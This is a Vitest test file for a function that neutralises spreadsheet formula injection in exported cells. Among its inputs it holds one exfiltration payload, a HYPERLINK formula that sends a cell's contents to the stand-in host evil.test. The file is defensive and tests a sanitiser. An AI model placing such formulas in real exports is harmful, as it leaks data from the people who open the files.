import { expect, it } from 'vitest';
import { neutralise, neutraliseRow } from './neutralise';

it('prefixes text cells a spreadsheet would run as a formula', () => {
  for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1', '＋1', '－1', '＠x'])
    expect(neutralise(s)).toBe(`'${s}`);
  expect(neutralise('=HYPERLINK("http://evil.test/?"&A1,"clic")')).toBe(
    `'=HYPERLINK("http://evil.test/?"&A1,"clic")`,
  );
});

it('leaves other text, numbers and blanks alone', () => {
  for (const v of ['', 'Bien', ' =not first', 'a=b', "'=already"]) expect(neutralise(v)).toBe(v);
  expect(neutraliseRow([-3, 0, 2.5, null, undefined, true])).toEqual([
    -3,
    0,
    2.5,
    null,
    undefined,
    true,
  ]);
  const d = new Date(0);
  expect(neutralise(d)).toBe(d);
});
